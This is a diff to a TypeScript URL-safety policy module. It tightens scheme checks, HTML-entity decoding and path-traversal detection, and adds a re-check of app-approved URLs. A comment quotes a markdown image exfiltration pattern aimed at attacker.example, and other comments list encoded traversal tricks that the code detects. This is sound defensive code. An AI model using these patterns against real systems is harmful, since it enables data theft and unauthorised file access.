@@ -14,7 +14,8 @@ export { isPrivateHost };
  *     the defence against `![](https://attacker.example/?q=<secret>)` exfiltration)
  *
  * A document preview is a frame that runs what the server sends, so for `document` only the
- * allow-list counts: a same-origin URL chosen by content (`/settings`) waits for a click too.
+ * allow-list counts: a same-origin URL chosen by content (`/settings`, `/uploads/x.html`) is
+ * never framed, and neither is another host, click or no click.
  */
 
 /** Where a URL is about to be used. */
@@ -114,6 +115,49 @@ export function checkUrl(raw: string, use: UrlUse, options: UrlPolicyOptions = {
   };
 }
 
+/**
+ * Re-checks a decision made by app code (the `urlPolicy` hook) against the rules nothing may
+ * waive: the URL it returns must pass the built-in policy for `use` (schemes, `data:` types,
+ * userinfo, invisible characters, hidden schemes), with `tel:` as the one extra link scheme; and
+ * nothing loads without a click from a private host unless it is this page's own origin. The
+ * host shown is the returned URL's own.
+ */
+export function enforceUrlFloor(
+  decision: UrlDecision,
+  use: UrlUse,
+  options: UrlPolicyOptions = {},
+): UrlDecision {
+  if (typeof decision !== 'object' || decision === null || decision.allowed !== true) {
+    const reason = (decision as { reason?: unknown } | null)?.reason;
+    return reject(typeof reason === 'string' ? reason : 'refused by the app');
+  }
+  const href: unknown = decision.href;
+  if (typeof href !== 'string') return reject('the app gave no URL');
+  if (use === 'link' && TELEPHONE.test(href.trim()))
+    return { allowed: true, href: href.trim(), host: null, autoLoad: false };
+  const floor = checkUrl(href, use, { ...options, mediaAllowlist: [] });
+  if (!floor.allowed) return floor;
+  return {
+    allowed: true,
+    href: floor.href,
+    host: floor.host ?? decision.host,
+    autoLoad:
+      decision.autoLoad === true && (floor.autoLoad || mayLoadOnAppSay(floor.href, use, options)),
+  };
+}
+
+const TELEPHONE = /^tel:\+?[0-9][0-9 ().-]{0,31}$/i;
+
+/** What the app may load early beyond the built-in rule: any public host, never a private one. */
+function mayLoadOnAppSay(href: string, use: UrlUse, options: UrlPolicyOptions): boolean {
+  if (use === 'link' || use === 'download') return false;
+  const parsed = parse(href, options.origin ?? undefined);
+  if (!parsed) return false;
+  if (parsed.protocol === 'data:') return true;
+  if (options.origin && parsed.origin === options.origin) return true;
+  return FETCH_SCHEMES.has(parsed.protocol) && !isPrivateHost(parsed.hostname);
+}
+
 function checkRelative(url: string, use: UrlUse, options: UrlPolicyOptions): UrlDecision {
   // A colon before any '/', '?' or '#' is a scheme the browser may read differently from us.
   const firstDelimiter = url.search(/[/?#]/);
@@ -158,7 +202,9 @@ function loadsEarly(use: UrlUse): boolean {
  * value, but not to anything that decodes HTML on the way (a template, a copy into markup). A URL
  * whose character references, once decoded, spell a scheme it did not have is refused.
  */
-const REFERENCE = /&(?:#(\d{1,7});?|#x([0-9a-f]{1,6});?|(colon|tab|newline|nbsp);)/gi;
+// An HTML decoder reads every digit of a numeric reference, leading zeros included
+// (`&#x000003a;` is `:`); an out-of-range value decodes to U+FFFD.
+const REFERENCE = /&(?:#(\d+);?|#x([0-9a-f]+);?|(colon|tab|newline|nbsp);)/gi;
 const NAMED: Record<string, string> = { colon: ':', tab: '\t', newline: '\n', nbsp: '\u00a0' };
 
 function hidesScheme(url: string): boolean {
@@ -166,7 +212,7 @@ function hidesScheme(url: string): boolean {
   const decoded = url.replace(REFERENCE, (match, decimal?: string, hex?: string, name?: string) => {
     if (name !== undefined) return NAMED[name.toLowerCase()] ?? match;
     const code = decimal !== undefined ? Number(decimal) : parseInt(hex ?? '', 16);
-    return code > 0x10ffff ? match : String.fromCodePoint(code);
+    return code > 0x10ffff ? '\ufffd' : String.fromCodePoint(code);
   });
   if (decoded === url) return false;
   // eslint-disable-next-line no-control-regex -- browsers drop these before reading a scheme
@@ -192,13 +238,33 @@ function checkDataUrl(url: string, use: UrlUse, options: UrlPolicyOptions): UrlD
 function mayFetchEarly(url: ParsedUrl, use: UrlUse, options: UrlPolicyOptions): boolean {
   const sameOrigin = Boolean(options.origin) && url.origin === options.origin;
   if (sameOrigin && loadsEarly(use)) return true;
-  // Encoded dot segments, slashes and backslashes (also double-encoded, `%252e`) and `;` path
-  // parameters (`/images/..;/secret` on Tomcat) could climb out of an allow-listed path once the
-  // server decodes them.
-  if (/%2e|%2f|%5c|%25|;/i.test(url.pathname)) return false;
+  if (mayClimbOutOfPath(url.pathname)) return false;
   // The page's own host may be `localhost` in development; any other private host never loads.
   if (!sameOrigin && isPrivateHost(url.hostname)) return false;
   return (options.mediaAllowlist ?? []).some((prefix) => matchesPrefix(url, prefix));
+}
+
+/**
+ * Encoded dot segments, slashes and backslashes (also double-encoded, `%252e`), `;` path
+ * parameters (`/images/..;/secret` on Tomcat), IIS's `%u002e`, overlong UTF-8 (`%c0%ae` is `.`
+ * to a lenient decoder) and look-alikes that a server may fold to `.`, `/` or `\` (fullwidth
+ * `%ef%bc%8e`) could climb out of an allow-listed path once the server decodes them.
+ */
+function mayClimbOutOfPath(pathname: string): boolean {
+  if (/%2e|%2f|%5c|%25|;|%u|%(?![0-9a-f]{2})/i.test(pathname)) return true;
+  if (!pathname.includes('%')) return false;
+  let decoded: string;
+  try {
+    decoded = decodeURIComponent(pathname);
+  } catch {
+    // Not UTF-8: overlong forms and stray bytes mean whatever the server's decoder says.
+    return true;
+  }
+  // NFKC folds fullwidth and small forms; Windows "best fit" also folds these slashes and dots.
+  const separators = (text: string) =>
+    text.replace(/[\u2215\u2044\u29f8\u2216\u29f9\u3002\uff61]/g, '/').replace(/[^./\\]/g, '')
+      .length;
+  return separators(decoded.normalize('NFKC')) !== separators(pathname);
 }
 
 /** Origin equality plus a path prefix that ends at a segment boundary (`/images` ≠ `/images-x`). */
